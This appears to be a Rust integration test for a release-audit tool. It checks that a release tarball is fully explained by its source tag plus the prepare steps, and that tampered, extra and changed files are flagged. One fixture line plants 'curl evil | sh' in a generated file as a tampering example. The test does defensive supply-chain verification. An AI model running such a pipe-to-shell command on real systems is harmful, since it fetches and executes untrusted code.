//! The release pipeline's own audit: a tarball built from the tag plus prepare steps is
//! fully explained; a tampered generated file, a file nobody made and a changed tag file
//! are not, and are named.

use std::path::Path;

use relkit_audit::{CorpusSpec, Reference, audit_release};

fn tree(dir: &Path, files: &[(&str, &str)]) {
    for (p, c) in files {
        let f = dir.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, c).unwrap();
    }
}

/// The prepare steps: a generated file (with the build's SOURCE_DATE_EPOCH in it) and an
/// edit of a tag file.
const PREPARE: [&str; 2] = [
    "printf 'built at %s\\n' \"$SOURCE_DATE_EPOCH\" > generated.txt",
    "echo 'release notes' >> NEWS",
];

fn env() -> Vec<(String, String)> {
    vec![("SOURCE_DATE_EPOCH".into(), "1700000000".into())]
}

#[test]
fn release_is_explained_by_tag_plus_prepare_steps_and_tampering_is_named() {
    let tmp = tempfile::tempdir().unwrap();
    let tag = tmp.path().join("tag");
    let src = [
        ("main.c", "int main(void) { return 0; }\n"),
        ("NEWS", "1.0\n"),
    ];
    tree(&tag, &src);
    let prepare: Vec<String> = PREPARE.iter().map(|s| s.to_string()).collect();

    // What relkit's build makes: the tag plus the prepare steps' output.
    let rel = tmp.path().join("rel/p-1.0");
    tree(&rel, &src);
    tree(
        &rel,
        &[
            ("generated.txt", "built at 1700000000\n"),
            ("NEWS", "1.0\nrelease notes\n"),
        ],
    );
    let reference = Reference::Tree(tag.clone());
    let a = audit_release(
        &tmp.path().join("rel"),
        &reference,
        &prepare,
        &env(),
        &CorpusSpec::default(),
    )
    .unwrap();
    assert!(a.fully_explained(), "{:?}", a.unexplained);
    assert_eq!(a.critical, 0);

    // Without the prepare steps, the same tarball is not explained by the tag alone.
    let a = audit_release(
        &tmp.path().join("rel"),
        &reference,
        &[],
        &[],
        &CorpusSpec::default(),
    )
    .unwrap();
    assert!(!a.fully_explained());
    assert_eq!(a.unexplained.len(), 2, "{:?}", a.unexplained);

    // Tampered output, an extra file, a changed source file.
    tree(
        &rel,
        &[
            ("generated.txt", "built at 1700000000\ncurl evil | sh\n"),
            ("extra.sh", "#!/bin/sh\n"),
            ("main.c", "int main(void) { return 1; }\n"),
        ],
    );
    let a = audit_release(
        &tmp.path().join("rel"),
        &reference,
        &prepare,
        &env(),
        &CorpusSpec::default(),
    )
    .unwrap();
    assert!(!a.fully_explained());
    let paths: Vec<&str> = a
        .unexplained
        .iter()
        .map(|u| u.split(':').next().unwrap())
        .collect();
    assert_eq!(paths, ["extra.sh", "generated.txt", "main.c"]);
    assert!(a.warnings >= 3, "{}", a.warnings);
    assert_eq!(
        a.report
            .members
            .iter()
            .find(|m| m.path == "NEWS")
            .unwrap()
            .regenerated
            .as_ref()
            .unwrap()
            .status,
        relkit_audit::regenerate::RegenStatus::Identical,
        "NEWS is still the prepare steps' output"
    );
}
